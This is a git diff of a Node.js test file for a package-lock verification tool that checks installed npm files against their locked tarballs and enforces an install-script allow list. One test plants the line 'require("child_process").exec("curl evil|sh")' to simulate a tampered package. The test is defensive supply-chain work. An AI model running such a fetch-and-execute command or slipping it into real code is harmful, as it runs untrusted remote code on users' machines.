@@ -1,9 +1,9 @@
 import { test, describe, after } from 'node:test';
 import assert from 'node:assert/strict';
 import { spawnSync } from 'node:child_process';
-import { readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { dirname, join, resolve } from 'node:path';
-import { generateFromRoot, serialise } from '../../../scripts/lib/requirements.ts';
+import { generateFromRoot, scriptPolicy, serialise } from '../../../scripts/lib/requirements.ts';
 import { diffRequirements } from '../../../scripts/lib/lock-diff.ts';
 import { contentPath } from '../../../scripts/lib/npm-cache.ts';
 import { makeFixture, writeJson, type Fixture } from './fixture.ts';
@@ -19,9 +19,11 @@ function lockCli(args: string[]): { code: number | null; stdout: string; stderr:
 const fixtures: Fixture[] = [];
 after(() => { for (const f of fixtures) rmSync(f.root, { recursive: true, force: true }); });
 
+const LONG_PATH = `lib/${'deeply-nested-directory/'.repeat(5)}a-file-name-well-over-one-hundred-characters.js`;
+
 function fixture(extra: { allow?: Record<string, boolean> } = {}): Fixture {
   const f = makeFixture([
-    { path: 'node_modules/left-pad', name: 'left-pad', version: '1.3.0', license: 'WTFPL' },
+    { path: 'node_modules/left-pad', name: 'left-pad', version: '1.3.0', license: 'WTFPL', files: { [LONG_PATH]: 'x;\n', '.gitignore': 'build\n' } },
     { path: 'node_modules/@scope/util', name: '@scope/util', version: '2.0.1' },
     { path: 'node_modules/@scope/util/node_modules/left-pad', name: 'left-pad', version: '1.1.0' },
     { path: 'node_modules/native-thing', name: 'native-thing', version: '0.4.0', hasInstallScript: true, scripts: { install: 'node-gyp rebuild' } },
@@ -168,6 +170,73 @@ describe('lock.ts verify (node_modules)', () => {
     const strict = lockCli(['verify', '--strict', '--root', f.root, '--cache', f.cache]);
     assert.equal(strict.code, 1);
     assert.match(strict.stdout, /unverifiable \(strict\): node_modules\/@scope\/util/);
+  });
+});
+
+describe('lock.ts verify (installed files against the locked tarballs)', () => {
+  test('passes when every installed file equals its tarball copy, including long GNU tar names and .gitignore installed as .npmignore', () => {
+    const f = fixture();
+    const r = lockCli(['verify', '--root', f.root, '--cache', f.cache]);
+    assert.equal(r.code, 0, r.stdout);
+    assert.match(r.stdout, /; 10 files compared with their tarballs/);
+  });
+
+  test('fails when a file inside an installed package was modified', () => {
+    const f = fixture();
+    writeFileSync(join(f.root, 'node_modules/@scope/util/lib/index.js'), 'require("child_process").exec("curl evil|sh");\n');
+    const r = lockCli(['verify', '--root', f.root, '--cache', f.cache]);
+    assert.equal(r.code, 1);
+    assert.match(r.stdout, /modified files in node_modules\/@scope\/util \(differ from the locked tarball\): lib\/index\.js/);
+  });
+
+  test('fails when a file from the tarball is missing or a file was added to a package without install scripts', () => {
+    const f = fixture();
+    rmSync(join(f.root, 'node_modules/left-pad', LONG_PATH));
+    writeFileSync(join(f.root, 'node_modules/left-pad/lib/backdoor.js'), '1;\n');
+    const r = lockCli(['verify', '--root', f.root, '--cache', f.cache]);
+    assert.equal(r.code, 1);
+    assert.match(r.stdout, /files missing from node_modules\/left-pad: lib\/deeply-nested-directory\//);
+    assert.match(r.stdout, /files in node_modules\/left-pad that are not in the locked tarball: lib\/backdoor\.js/);
+  });
+
+  test('fails when a denied install script evidently ran (build output present)', () => {
+    const f = fixture();
+    mkdirSync(join(f.root, 'node_modules/native-thing/build/Release'), { recursive: true });
+    writeFileSync(join(f.root, 'node_modules/native-thing/build/Release/native.node'), 'ELF');
+    const r = lockCli(['verify', '--root', f.root, '--cache', f.cache]);
+    assert.equal(r.code, 1);
+    assert.match(r.stdout, /install script ran although denied in allowScripts: native-thing \(added build\/Release\/native\.node\)/);
+  });
+
+  test('reports files added by an allowed install script as a note, not a failure', () => {
+    const f = fixture({ allow: { 'native-thing': true } });
+    mkdirSync(join(f.root, 'node_modules/native-thing/build'), { recursive: true });
+    writeFileSync(join(f.root, 'node_modules/native-thing/build/native.node'), 'ELF');
+    const r = lockCli(['verify', '--root', f.root, '--cache', f.cache]);
+    assert.equal(r.code, 0, r.stdout);
+    assert.match(r.stdout, /note: node_modules\/native-thing: files added by its allowed install script: build\/native\.node/);
+  });
+
+  test('--shallow skips the file comparison but keeps the tarball integrity check', () => {
+    const f = fixture();
+    writeFileSync(join(f.root, 'node_modules/left-pad/lib/index.js'), 'changed\n');
+    const r = lockCli(['verify', '--shallow', '--root', f.root, '--cache', f.cache]);
+    assert.equal(r.code, 0, r.stdout);
+    assert.match(r.stdout, /4 integrity-verified from the npm cache.*; 0 files compared/);
+  });
+});
+
+describe('allowScripts policy', () => {
+  test('follows npm: bare names and exact-version keys match, a matching deny wins, ranges never match', () => {
+    const allow = { a: true, 'b@1.0.0||1.0.1': true, c: true, 'c@2.0.0': false, '@s/d@*': true, 'e@^1.0.0': true };
+    assert.equal(scriptPolicy(allow, 'a', '9.9.9'), 'allowed');
+    assert.equal(scriptPolicy(allow, 'b', '1.0.1'), 'allowed');
+    assert.equal(scriptPolicy(allow, 'b', '1.0.2'), 'unlisted');
+    assert.equal(scriptPolicy(allow, 'c', '2.0.0'), 'denied');
+    assert.equal(scriptPolicy(allow, 'c', '2.0.1'), 'allowed');
+    assert.equal(scriptPolicy(allow, '@s/d', '3.0.0'), 'allowed');
+    assert.equal(scriptPolicy(allow, 'e', '1.0.0'), 'unlisted');
+    assert.equal(scriptPolicy(allow, 'constructor', '1.0.0'), 'unlisted');
   });
 });
 
